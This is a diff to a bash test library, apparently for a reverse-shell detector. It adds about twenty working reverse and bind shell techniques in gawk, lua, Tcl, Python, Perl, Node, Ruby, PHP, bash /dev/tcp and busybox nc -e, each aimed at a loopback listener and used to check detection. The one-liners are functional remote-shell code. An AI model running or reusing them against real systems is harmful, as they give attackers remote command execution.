@@ -3,19 +3,26 @@
 # tests/lib.sh for wait_until, free_port, listening and SW_TMP/SW_BUILD).
 #
 # Each technique starts its own listener on 127.0.0.1 (never anything else), starts the shell,
-# sends it `echo sw-pid=$$; id; exit`, waits (bounded) until the listener received `uid=`, lets the
-# shell exit, then kills whatever is left of it. Usage:
+# sends it `echo sw-pid=$$; id; exit` (the wire loops: see below), waits (bounded) until the
+# listener received `uid=`, lets the shell exit, then kills whatever is left of it. Usage:
 #   sw_tech_run NAME        run one technique; 0 when the listener got the output of `id`
 #   sw_tech_describe        one TAP comment line with the variables below
 #   sw_tech_missing NAME    prints the first program NAME needs that is not installed (empty: none)
 #   SW_TECHNIQUES           every NAME, in the issue's order
+#   SW_TECHNIQUES_WIRE      issue 15's: commands off the wire (loops that run each line received,
+#                           no shell on the connection) and relays through pipes held anywhere, the
+#                           issue's list first, then variants of the same classes (and busybox
+#                           nc -e, a plain stdio shell)
 # After sw_tech_run, these describe the last run (they stay set for the caller):
 #   SW_T_NAME         the technique
 #   SW_T_KIND         stdio: the shell is exec'd with the socket on fd 0/1 (its exec shows it);
 #                     lineage: a relay, pty or socketpair sits between; the socket is held by the
 #                     shell's parent, grandparent or a sibling in the same pipeline
+#                     wire: no shell on the connection: the loop holding it runs each line it
+#                     receives as a program (see "commands off the wire" below)
 #   SW_T_ROOT_PID     the process the launcher started (the shell is it or a descendant)
-#   SW_T_SHELL_PID    the interactive shell's own pid, as it reported with `echo $$`
+#   SW_T_SHELL_PID    the interactive shell's own pid, as it reported with `echo $$`; for wire,
+#                     the loop's (a shell it runs reports `echo sw-pid=$PPID`)
 #   SW_T_PORT         the listening port on 127.0.0.1 (the attacker's for reverse shells, the
 #                     shell's for the bind shell)
 #   SW_T_PEER         the remote end as the shell sees it, ADDR:PORT
@@ -27,6 +34,11 @@
 
 SW_TECHNIQUES=(bash_tcp sh_fd196 python_dup2 python_pty perl_socket php_fsockopen ruby_tcpsocket
 	socat_exec ncat_e nc_traditional_e mkfifo_nc openssl_relay python_bind c_dup3_fcntl)
+SW_TECHNIQUES_WIRE=(gawk_inet_reverse gawk_inet_bind lua_socket_reverse lua_socket_bind tclsh_exec
+	python_popen_loop perl_backticks_loop node_bind node_reverse
+	tclsh_server perl_open_pipe_bind node_exec_loop python_udp_popen ruby_popen_fork
+	php_shell_exec_loop bash_eval_loop python_pipe_relay python_double_fork php_proc_open_pipes
+	perl_open2_relay busybox_nc_e)
 : "${SW_TECH_TIMEOUT:=10}"
 if [ -z "${SW_PY:-}" ]; then
 	if [ -x /usr/bin/python3 ]; then SW_PY=/usr/bin/python3; else SW_PY=$(command -v python3); fi
@@ -35,6 +47,14 @@ fi
 SW_SHELLS_DIR=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
 source "$SW_SHELLS_DIR/procs.sh"
 SW_TECH_SEND='echo sw-pid=$$; id; exit'
+# What the attacker sends to the wire loops (SW_T_KIND=wire), by how the loop runs a line:
+#   POPEN  through `sh -c LINE` (popen, system, backticks, subprocess shell=True): that shell's
+#          parent is the loop
+#   EVAL   in the loop's own shell (bash `eval`): a child sh reports its parent
+#   TCL    as the words of a Tcl `exec`, no shell (`eval "exec $line"`): one command a line
+SW_TECH_SEND_POPEN='echo sw-pid=$PPID; id'
+SW_TECH_SEND_EVAL="sh -c 'echo sw-pid=\$PPID'; id"
+SW_TECH_SEND_TCL=$'sh -c {echo sw-pid=$PPID}\nid'
 
 # ---- plumbing ---------------------------------------------------------------------------------
 
@@ -51,6 +71,20 @@ sw_tech_missing() {
 	nc_traditional_e | mkfifo_nc) need="nc.traditional mkfifo" ;;
 	openssl_relay) need="openssl mkfifo" ;;
 	c_dup3_fcntl) need=$SW_C_DUP3 ;;
+	gawk_inet_reverse | gawk_inet_bind) need="gawk sh" ;;
+	lua_socket_reverse | lua_socket_bind)
+		need=$(sw_lua)
+		command -v "$need" >/dev/null 2>&1 && ! "$need" -e 'require("socket")' >/dev/null 2>&1 &&
+			{ echo lua-socket; return 0; }
+		;;
+	tclsh_exec | tclsh_server) need="tclsh sh" ;;
+	python_popen_loop | python_pipe_relay | python_double_fork | python_udp_popen) need="$SW_PY sh" ;;
+	perl_backticks_loop | perl_open_pipe_bind | perl_open2_relay) need="perl sh" ;;
+	node_bind | node_reverse | node_exec_loop) need="node sh" ;;
+	ruby_popen_fork) need="ruby sh" ;;
+	php_shell_exec_loop | php_proc_open_pipes) need="php sh" ;;
+	bash_eval_loop) need="bash sh" ;;
+	busybox_nc_e) need="busybox sh" ;;
 	*) echo "unknown-technique"; return 0 ;;
 	esac
 	for p in $need "$SW_PY" ss; do
@@ -68,7 +102,7 @@ sw_tech_describe() {
 sw_tech_run() {
 	local name=$1 t0 rc
 	SW_T_NAME=$name SW_T_KIND=stdio SW_T_ROOT_PID= SW_T_SHELL_PID= SW_T_PORT= SW_T_PEER=
-	SW_T_LISTENER_PID= SW_T_US=0 SW_T_FIFO_FD=
+	SW_T_LISTENER_PID= SW_T_US=0 SW_T_FIFO_FD= SW_T_SEND= SW_T_UDP=
 	SW_T_DIR=$SW_TMP/tech-$name.$RANDOM
 	mkdir -p "$SW_T_DIR" && : >"$SW_T_DIR/listener.out" || return 1
 	t0=${EPOCHREALTIME/./}
@@ -80,10 +114,12 @@ sw_tech_run() {
 }
 
 # _sw_listen: the attacker's listener on a port the kernel picks; sets SW_T_PORT and SW_T_PEER.
+# It sends SW_T_SEND when a technique set it (else SW_TECH_SEND); SW_T_UDP=1: over UDP.
 _sw_listen() {
 	local pf=$SW_T_DIR/port
 	"$SW_PY" "$SW_SHELLS_DIR/listener.py" listen --port-file "$pf" --out "$SW_T_DIR/listener.out" \
-		--send "$SW_TECH_SEND" --timeout "$SW_TECH_TIMEOUT" 2>"$SW_T_DIR/listener.err" &
+		--send "${SW_T_SEND:-$SW_TECH_SEND}" --timeout "$SW_TECH_TIMEOUT" ${SW_T_UDP:+--udp} \
+		2>"$SW_T_DIR/listener.err" &
 	SW_T_LISTENER_PID=$!
 	wait_until "$SW_TECH_TIMEOUT" test -s "$pf" || return 1
 	SW_T_PORT=$(<"$pf")
@@ -232,4 +268,235 @@ sw_tech_openssl_relay() {
 		openssl s_client -quiet -connect 127.0.0.1:$SW_T_PORT >$d/f 2>/dev/null"
 	printf '%s\n' "$SW_TECH_SEND" >&"$fd"
 	_sw_finish
+}
+
+# ---- commands off the wire and relays (issue 15) -----------------------------------------------
+# SW_TECHNIQUES_WIRE. Kinds:
+#   wire     no shell is ever on the connection: the process that holds it (SW_T_SHELL_PID; the
+#            loop) reads one command a line and runs each as a new program (popen, system,
+#            backticks, exec, eval) whose output it sends back. The attacker sends a line that
+#            makes a shell run by the loop print `sw-pid=$PPID`: the loop's pid. The alert may name
+#            the loop or the program it ran for the command (pid or parent pid is the loop's).
+#   lineage  a shell reading stdin whose pipes (or socketpair) the holder of the connection relays.
+
+# _sw_bind CMD...: a bind shell: CMD (with @PORT@ for a free port on 127.0.0.1) listens; the
+# attacker (listener.py connect) calls in and sends the commands.
+_sw_bind() {
+	local a args=()
+	SW_T_PORT=$(free_port) || return 1
+	for a in "$@"; do args+=("${a//@PORT@/$SW_T_PORT}"); done
+	_sw_spawn "${args[@]}"
+	wait_until "$SW_TECH_TIMEOUT" listening "$SW_T_PORT" || { _sw_finish; return 1; }
+	"$SW_PY" "$SW_SHELLS_DIR/listener.py" connect --port "$SW_T_PORT" \
+		--out "$SW_T_DIR/listener.out" --send "${SW_T_SEND:-$SW_TECH_SEND}" \
+		--timeout "$SW_TECH_TIMEOUT" 2>"$SW_T_DIR/listener.err" &
+	SW_T_LISTENER_PID=$!
+	wait_until "$SW_TECH_TIMEOUT" test -s "$SW_T_DIR/listener.out.local" &&
+		SW_T_PEER=$(<"$SW_T_DIR/listener.out.local")
+	_sw_finish
+}
+
+# gawk's TCP special files (GTFOBins' form); `c |& getline` runs the line as a coprocess, through
+# /bin/sh -c. The loop ends at EOF (GTFOBins' loops forever on the last line).
+SW_GAWK_LOOP='while (1) { printf "> " |& s; if ((s |& getline c) <= 0) break;
+	if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } }'
+sw_tech_gawk_inet_reverse() {
+	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
+	_sw_reverse gawk 'BEGIN { s = "/inet/tcp/0/127.0.0.1/@PORT@"; '"$SW_GAWK_LOOP"' }'
+}
+
+# gawk cannot bind an address: this one listens on every interface, for the second or so until
+# the attacker (on 127.0.0.1) calls in; gawk then takes no other connection.
+sw_tech_gawk_inet_bind() {
+	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
+	_sw_bind gawk 'BEGIN { s = "/inet/tcp/@PORT@/0/0"; '"$SW_GAWK_LOOP"' }'
+}
+
+# lua with lua-socket, io.popen per line (GTFOBins' form, ending at EOF).
+SW_LUA_LOOP='while true do local r,x=t:receive(); if not r then break end;
+local f=assert(io.popen(r,"r")); local b=assert(f:read("*a")); t:send(b); f:close() end; t:close()'
+sw_lua() { if command -v lua5.4 >/dev/null 2>&1; then echo lua5.4; else echo lua; fi; }
+sw_tech_lua_socket_reverse() {
+	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
+	_sw_reverse "$(sw_lua)" -e 'local s=require("socket"); local t=assert(s.tcp());
+assert(t:connect("127.0.0.1",@PORT@)); '"$SW_LUA_LOOP"
+}
+
+sw_tech_lua_socket_bind() {
+	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
+	_sw_bind "$(sw_lua)" -e 'local k=require("socket"); local s=assert(k.bind("127.0.0.1",@PORT@));
+local t=s:accept(); s:close(); '"$SW_LUA_LOOP"
+}
+
+# tclsh (GTFOBins' form, the script on tclsh's stdin): `exec` runs each line as a word list, no
+# shell. The loop ends at EOF.
+sw_tech_tclsh_exec() {
+	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_TCL
+	_sw_reverse sh -c 'printf "%s\n" "$0" | tclsh' 'set s [socket 127.0.0.1 @PORT@];
+while 1 { puts -nonewline $s "> "; flush $s; if {[gets $s c] < 0} break; set e "exec $c";
+if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s }; close $s'
+}
+
+# A Tcl bind server from a dropped script: `socket -server`, each line through `exec sh -c`.
+sw_tech_tclsh_server() {
+	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
+	cat >"$SW_T_DIR/server.tcl" <<'TCL'
+proc accepted {c a p} { fconfigure $c -buffering line; fileevent $c readable [list line $c] }
+proc line {c} {
+	if {[gets $c l] < 0} { close $c; set ::done 1; return }
+	catch {exec sh -c $l} out
+	puts $c $out
+}
+socket -server accepted -myaddr 127.0.0.1 [lindex $argv 0]
+vwait done
+TCL
+	_sw_bind tclsh "$SW_T_DIR/server.tcl" @PORT@
+}
+
+# python: each line through subprocess.check_output(shell=True); the output goes back.
+sw_tech_python_popen_loop() {
+	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
+	_sw_reverse "$SW_PY" -c 'import socket,subprocess
+s=socket.create_connection(("127.0.0.1",@PORT@))
+for l in s.makefile("rb"):
+    try: o=subprocess.check_output(l,shell=True,stderr=subprocess.STDOUT)
+    except subprocess.CalledProcessError as e: o=e.output
+    s.sendall(o)'
+}
+
+# perl: backticks per line.
+sw_tech_perl_backticks_loop() {
+	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
+	_sw_reverse perl -e 'use IO::Socket::INET;
+$s=IO::Socket::INET->new(PeerAddr=>"127.0.0.1:@PORT@") or die;$s->autoflush(1);
+while(<$s>){print $s `$_`}'
+}
+
+# perl bind: open(P, "LINE |") per line.
+sw_tech_perl_open_pipe_bind() {
+	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
+	_sw_bind perl -e 'use IO::Socket::INET;
+$l=IO::Socket::INET->new(LocalAddr=>"127.0.0.1",LocalPort=>@PORT@,Listen=>1,ReuseAddr=>1) or die;
+$s=$l->accept;close $l;$s->autoflush(1);
+while($c=<$s>){chomp $c;open(P,"$c 2>&1 |");print $s $_ while <P>;close P}'
+}
+
+# node (GTFOBins' forms, bound to 127.0.0.1): spawn('/bin/sh') with its stdio on pipes (libuv makes
+# them unix socketpairs) that node relays to the connection it holds on a fd of its own.
+sw_tech_node_reverse() {
+	SW_T_KIND=lineage
+	_sw_reverse node -e 'sh = require("child_process").spawn("/bin/sh");
+require("net").connect(@PORT@, "127.0.0.1", function () { this.pipe(sh.stdin); sh.stdout.pipe(this);
+sh.stderr.pipe(this); })'
+}
+
+sw_tech_node_bind() {
+	SW_T_KIND=lineage
+	_sw_bind node -e 'sh = require("child_process").spawn("/bin/sh");
+require("net").createServer(function (client) { client.pipe(sh.stdin); sh.stdout.pipe(client);
+sh.stderr.pipe(client); }).listen(@PORT@, "127.0.0.1")'
+}
+
+# node: child_process.exec (/bin/sh -c) per chunk received.
+sw_tech_node_exec_loop() {
+	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
+	_sw_reverse node -e 'const cp = require("child_process");
+const c = require("net").connect(@PORT@, "127.0.0.1");
+c.on("data", d => cp.exec(d.toString(), (e, o, er) => c.write(o + er)))'
+}
+
+# python: `sh -i` on subprocess pipes; the parent relays them to the socket with select.
+SW_PY_RELAY='
+def relay(s, i, o):
+    while True:
+        r = select.select([s, o], [], [])[0]
+        if s in r:
+            d = s.recv(4096)
+            if not d: break
+            os.write(i, d)
+        if o in r:
+            d = os.read(o, 4096)
+            if not d: break
+            s.sendall(d)'
+sw_tech_python_pipe_relay() {
+	SW_T_KIND=lineage
+	_sw_reverse "$SW_PY" -c 'import socket,subprocess,select,os'"$SW_PY_RELAY"'
+s = socket.create_connection(("127.0.0.1", @PORT@))
+p = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                     stderr=subprocess.STDOUT)
+relay(s, p.stdin.fileno(), p.stdout.fileno())'
+}
+
+# python: a double fork: the grandparent connects and makes the pipes, the middle process exits at
+# once (the shell is an orphan), the grandparent relays.
+sw_tech_python_double_fork() {
+	SW_T_KIND=lineage
+	_sw_reverse "$SW_PY" -c 'import socket,select,os'"$SW_PY_RELAY"'
+s = socket.create_connection(("127.0.0.1", @PORT@))
+ir, iw = os.pipe(); orr, ow = os.pipe()
+if os.fork() == 0:
+    if os.fork() == 0:
+        os.dup2(ir, 0); os.dup2(ow, 1); os.dup2(ow, 2)
+        os.execv("/bin/sh", ["sh", "-i"])
+    os._exit(0)
+os.wait()
+os.close(ir); os.close(ow)
+relay(s, iw, orr)'
+}
+
+# ruby: fork into the background, IO.popen per line (the well-known one-liner).
+sw_tech_ruby_popen_fork() {
+	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
+	_sw_reverse ruby -rsocket -e 'exit if fork;c=TCPSocket.new("127.0.0.1","@PORT@");
+while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'
+}
+
+# php: shell_exec per line.
+sw_tech_php_shell_exec_loop() {
+	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN
+	_sw_reverse php -r '$s=fsockopen("127.0.0.1",@PORT@);
+while(($l=fgets($s))!==false){fwrite($s,(string)shell_exec($l));}'
+}
+
+# php: proc_open of `sh -i` with three pipes; php relays them with stream_select.
+sw_tech_php_proc_open_pipes() {
+	SW_T_KIND=lineage
+	_sw_reverse php -r '$s=fsockopen("127.0.0.1",@PORT@);
+$p=proc_open(["/bin/sh","-i"],[0=>["pipe","r"],1=>["pipe","w"],2=>["pipe","w"]],$io);
+while(true){$r=[$s,$io[1],$io[2]];$w=null;$e=null;if(stream_select($r,$w,$e,null)<1)break;
+foreach($r as $x){$d=fread($x,4096);if($d===""||$d===false)break 2;
+if($x===$s)fwrite($io[0],$d);else fwrite($s,$d);}}'
+}
+
+# perl: IPC::Open2 `sh -i`, relayed with IO::Select.
+sw_tech_perl_open2_relay() {
+	SW_T_KIND=lineage
+	_sw_reverse perl -e 'use IO::Socket::INET;use IPC::Open2;use IO::Select;
+$s=IO::Socket::INET->new(PeerAddr=>"127.0.0.1:@PORT@") or die;
+$pid=open2($o,$i,"/bin/sh","-i");$sel=IO::Select->new($s,$o);
+L: while(@r=$sel->can_read){for $h (@r){sysread($h,$d,4096) or last L;
+if($h==$s){syswrite($i,$d)}else{syswrite($s,$d)}}}'
+}
+
+# bash: a `while read` loop over /dev/tcp that evals each line, its output to the socket.
+sw_tech_bash_eval_loop() {
+	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_EVAL
+	_sw_reverse bash -c 'exec 5<>/dev/tcp/127.0.0.1/@PORT@; while read -r l <&5; do eval "$l" >&5 2>&5; done'
+}
+
+# busybox nc -e (reverse: busybox nc cannot bind an address).
+sw_tech_busybox_nc_e() {
+	_sw_reverse busybox nc 127.0.0.1 @PORT@ -e /bin/sh
+}
+
+# python over UDP: says hello to the attacker's port, runs each datagram through
+# subprocess.run(shell=True), sends the output back; an empty datagram ends it.
+sw_tech_python_udp_popen() {
+	SW_T_KIND=wire SW_T_SEND=$SW_TECH_SEND_POPEN SW_T_UDP=1
+	_sw_reverse "$SW_PY" -c 'import socket,subprocess
+s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.connect(("127.0.0.1",@PORT@));s.send(b"\n")
+while True:
+    l=s.recv(65536)
+    if not l: break
+    s.send(subprocess.run(l,shell=True,stdout=subprocess.PIPE,stderr=subprocess.STDOUT).stdout)'
 }
